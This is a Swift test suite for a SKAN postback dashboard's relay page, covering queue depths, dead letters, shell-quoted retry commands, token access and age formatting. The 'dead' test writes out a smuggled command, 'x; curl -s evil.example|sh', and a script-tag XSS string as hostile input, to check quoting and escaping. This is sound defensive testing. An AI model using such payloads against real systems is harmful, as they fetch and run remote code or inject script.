import Foundation
import Hummingbird
import HummingbirdTesting
import SKANHTTP
import SKANReports
import SKANStore
import Testing
@testable import SKANDashboard

@Suite("Dashboard: the relay page")
struct RelayPageTests {
    static let hostile = "<script>alert(1)</script>"
    static let now = Date(timeIntervalSince1970: 1_780_000_000)  // 2026-05-28T20:26:40Z

    /// A read side whose outbox holds what the test says, and no postbacks.
    struct OutboxReader: PostbackReader {
        var depths: [OutboxDepth] = []
        var dead: [DeadLetter] = []

        func aggregate(_ query: AggregateQuery, each: (AggregateRow) throws -> Void) async throws {}
        func statement(for query: AggregateQuery) -> (sql: String, arguments: [String]) { ("", []) }
        func export(_ table: ExportTable, header: ([String]) throws -> Void, each: (ExportRow) throws -> Void) async throws {}
        func stats() async throws -> StoreStats {
            StoreStats(postbacks: 0, postbacksByKey: [:], rejected: 0, rejectedByStatus: [:], rejectedDropped: 0)
        }
        func latestRefusals(limit: Int) async throws -> [RefusalSummary] { [] }
        func outboxDepths() async throws -> [OutboxDepth] { depths }
        func deadLetters(limit: Int) async throws -> [DeadLetter] { Array(dead.prefix(limit)) }
    }

    static func page(_ reader: any PostbackReader, delivery: RelayDelivery? = nil,
                     uri: String = "/relay") async throws -> (status: HTTPResponse.Status, body: String) {
        var dashboard = try await Dashboard(reader: reader)
        dashboard.relayDelivery = delivery
        dashboard.now = { Self.now }
        let router = Router()
        dashboard.addRoutes(to: router)
        return try await Application(router: router).test(.router) { client in
            try await client.execute(uri: uri, method: .get) { ($0.status, String(buffer: $0.body)) }
        }
    }

    @Test("with nothing queued it says so, with no table, and the navigation links to it")
    func empty() async throws {
        let (status, html) = try await Self.page(OutboxReader())
        #expect(status == .ok)
        #expect(html.contains("Nothing is queued and no dead letter is kept"))
        #expect(html.contains(#"data-tile="relay-queued">0<"#))
        #expect(!html.contains(#"id="relay-destinations""#))
        #expect(!html.contains(#"id="dead-letters""#))
        #expect(!html.contains("skan relay retry"))
        #expect(html.contains(#"<a href="/relay" aria-current="page">Relay</a>"#))
        // Every other page links to it too, without the view's filters (the outbox has no day or network).
        let (_, overview) = try await Self.page(OutboxReader(), uri: "/?network=adnet1.skadnetwork")
        #expect(overview.contains(#"<a href="/relay">Relay</a>"#))
    }

    @Test("a queue shows its depth, the oldest entry's time and age, and this collector's counts")
    func queued() async throws {
        let reader = OutboxReader(depths: [
            OutboxDepth(destination: "partner", pending: 1234, dead: 0, oldest: Self.now.addingTimeInterval(-150), lastError: "HTTP 503"),
        ])
        let delivery = RelayDelivery(destinations: ["partner", "idle"]) {
            ["partner": .init(sent: 5000, retried: 7, dead: 0), "idle": .init(sent: 0, retried: 0, dead: 0)]
        }
        let (status, html) = try await Self.page(reader, delivery: delivery)
        #expect(status == .ok)
        #expect(html.contains(#"data-tile="relay-queued">1,234<"#))
        #expect(html.contains(#"data-tile="relay-oldest">2 min 30 s<"#))
        #expect(html.contains(#"data-tile="relay-dead">0<"#))
        let partner = try #require(Self.row("partner", in: html))
        #expect(partner.contains(#"data-cell="queued">1,234<"#))
        #expect(partner.contains("2026-05-28T20:24:10"))
        #expect(partner.contains(#"data-cell="sent">5,000<"#))
        #expect(partner.contains(#"data-cell="retried">7<"#))
        #expect(partner.contains(#"data-cell="last-error">HTTP 503<"#))
        #expect(!partner.contains("skan relay retry"))
        // A configured destination with nothing queued is listed, at zero.
        let idle = try #require(Self.row("idle", in: html))
        #expect(idle.contains(#"data-cell="queued">0<"#))
        #expect(!html.contains(#"id="dead-letters""#))
        #expect(html.contains("sent, retried and dead count this collector&#39;s attempts"))
    }

    @Test("without the delivering process the counts are —, and the page says why")
    func outboxOnly() async throws {
        let reader = OutboxReader(depths: [OutboxDepth(destination: "partner", pending: 3, dead: 0, oldest: Self.now, lastError: nil)])
        let (_, html) = try await Self.page(reader)
        let partner = try #require(Self.row("partner", in: html))
        #expect(partner.contains(#"data-cell="sent">—<"#))
        #expect(html.contains("this dashboard, which delivers nothing, shows them as —"))
    }

    @Test("dead letters are listed with the retry command, shell-quoted; a hostile last error and name are escaped")
    func dead() async throws {
        let hostileName = "x; curl -s evil.example|sh #" + Self.hostile
        let reader = OutboxReader(
            depths: [
                OutboxDepth(destination: "partner", pending: 0, dead: 2, oldest: nil, lastError: Self.hostile),
                OutboxDepth(destination: hostileName, pending: 0, dead: 1, oldest: nil, lastError: "HTTP 404"),
            ],
            dead: [
                DeadLetter(id: 42, destination: "partner", attempts: 3, lastError: Self.hostile, createdAt: Self.now.addingTimeInterval(-60)),
                DeadLetter(id: 41, destination: hostileName, attempts: 3, lastError: "HTTP 404", createdAt: Self.now.addingTimeInterval(-120)),
                DeadLetter(id: 40, destination: "partner", attempts: 1, lastError: nil, createdAt: Self.now.addingTimeInterval(-180)),
            ])
        let (status, html) = try await Self.page(reader)
        #expect(status == .ok)
        #expect(html.contains(#"data-tile="relay-dead">3<"#))
        #expect(html.contains(#"id="dead-letters""#))
        #expect(html.contains(#"<tr data-dead-letter="42"><td class="num">42</td><td>partner</td><td class="num">3</td><td>&lt;script&gt;alert(1)&lt;/script&gt;</td><td>2026-05-28T20:25:40"#))
        #expect(html.contains(#"data-dead-letter="40""#))
        #expect(!html.contains(Self.hostile))
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        // The commands: every dead letter, and one destination's, its name one shell word (then HTML-escaped).
        #expect(html.contains("<code>skan relay retry --dead</code>"))
        #expect(html.contains("<code>skan relay retry --dead --destination partner</code>"))
        let quoted = PageContent.retryCommand(destination: hostileName)
        #expect(quoted == "skan relay retry --dead --destination 'x; curl -s evil.example|sh #<script>alert(1)</script>'")
        #expect(html.contains("<code>" + HTMLText.escape(quoted) + "</code>"))
    }

    @Test("reads a memory store's outbox: entries queued, one made dead")
    func memoryStore() async throws {
        let store = MemoryPostbackStore()
        let queuedAt = Self.now.addingTimeInterval(-7200)
        try await store.enqueue([OutboxItem(destination: "partner", idempotencyKey: "a", body: Array("{}".utf8)),
                                 OutboxItem(destination: "partner", idempotencyKey: "b", body: Array("secret body".utf8))],
                                now: queuedAt)
        let claimed = try await store.claim(destination: "partner", limit: 1, now: queuedAt, leaseUntil: queuedAt)
        try await store.settle([.dead(id: claimed[0].id, error: "HTTP 410")])
        let (_, html) = try await Self.page(MemoryPostbackReader(store))
        let partner = try #require(Self.row("partner", in: html))
        #expect(partner.contains(#"data-cell="queued">1<"#))
        #expect(partner.contains(#"data-cell="dead-letters">1<"#))
        #expect(partner.contains(#"data-cell="last-error">HTTP 410<"#))
        #expect(html.contains(#"data-tile="relay-oldest">2 h 0 min<"#))
        #expect(html.contains(#"<tr data-dead-letter="\#(claimed[0].id)">"#))
        #expect(!html.contains("secret body"))
    }

    @Test("behind a token, /relay answers 401 without it and the page with it, as every page")
    func token() async throws {
        let dashboard = try await Dashboard(reader: OutboxReader(dead: [
            DeadLetter(id: 1, destination: "partner", attempts: 3, lastError: "HTTP 404", createdAt: Self.now),
        ]))
        let access = try OperatorAccess(host: "127.0.0.1", token: "0123456789abcdef",
                                        options: .init(host: "--host", tokenFile: "--token-file"))
        let router = Router()
        router.add(middleware: OperatorAccessMiddleware(access, login: true))
        dashboard.addRoutes(to: router)
        try await Application(router: router).test(.router) { client in
            try await client.execute(uri: "/relay", method: .get) { response in
                #expect(response.status == .unauthorized)
                #expect(!String(buffer: response.body).contains("HTTP 404"))
            }
            try await client.execute(uri: "/relay", method: .get, headers: [.authorization: "Bearer 0123456789abcdef"]) { response in
                #expect(response.status == .ok)
                #expect(String(buffer: response.body).contains(#"data-dead-letter="1""#))
            }
        }
    }

    @Test("ages read in the two largest units", arguments: [
        (0.0, "0 s"), (59.9, "59 s"), (61, "1 min 1 s"), (3600, "1 h 0 min"), (90_061, "1 d 1 h"), (-5, "0 s"),
    ])
    func age(_ seconds: Double, _ text: String) {
        #expect(PageContent.age(seconds) == text)
    }

    /// The destinations table's row of `name`, as rendered.
    static func row(_ name: String, in html: String) -> String? {
        guard let start = html.range(of: #"<tr data-destination="\#(name)">"#) else { return nil }
        return String(html[start.lowerBound...].prefix { $0 != "\n" }.split(separator: "</tr>").first ?? "")
    }
}
